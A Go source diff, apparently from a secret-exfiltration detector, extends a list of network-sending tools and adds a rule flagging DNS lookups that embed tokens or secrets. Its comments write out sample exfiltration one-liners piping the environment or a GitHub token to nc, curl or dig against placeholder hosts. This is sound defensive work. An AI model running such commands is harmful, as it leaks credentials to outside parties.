@@ -370,7 +370,7 @@ var secretPrinters = map[string]bool{"cat": true, "tac": true, "head": true, "ta
 // their arguments, in a host name they look up) over the network.
 var netSenders = []string{
 	"curl", "wget", "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "http", "https", "xh", "xhs", "curlie",
-	"ssh", "openssl", "dig", "nslookup", "host", "drill", "ping", "fetch", "aria2c", "sendmail", "mail", "mailx",
+	"ssh", "openssl", "dig", "nslookup", "host", "drill", "ping", "ping6", "delv", "kdig", "fetch", "aria2c", "sendmail", "mail", "mailx",
 }
 
 // secretVarName matches a variable whose name says it holds a secret.
@@ -397,6 +397,10 @@ func matchSecretPrint(c *command, h *hits) {
 	}
 }
 
+// dnsQuery are the programs that look a name up: what the name holds
+// reaches the servers of its domain.
+var dnsQuery = map[string]bool{"dig": true, "host": true, "nslookup": true, "drill": true, "delv": true, "kdig": true, "ping": true, "ping6": true, "getent": true, "resolvectl": true}
+
 // matchEnvSend judges a network program sending the environment's values
 // (env | nc HOST PORT, curl -d "$(printenv)", dig $(env | base64).x.example):
 // the worker's and the job's secrets leave the machine.
@@ -422,6 +426,12 @@ func matchEnvSend(c *command, h *hits) {
 	envFileSender := c.name != "ssh" && c.name != "openssl"
 	if envFileSender && c.stdin.taint&taintEnvFile != 0 {
 		h.add(ruleEnvSend, c.name+" sends the project's secrets file it reads on stdin")
+		return
+	}
+	if dnsQuery[c.name] && slices.ContainsFunc(c.args, func(a arg) bool { return a.taint&(taintToken|taintEnvFile) != 0 }) {
+		// dig "$(gh auth token | xxd -p).x.example": the name asked for is
+		// the message, read by whoever answers for its domain
+		h.add(ruleEnvSend, c.name+" puts an access token or the project's secrets into a DNS name")
 		return
 	}
 	if dest, ok := tokenSentAway(c); ok {
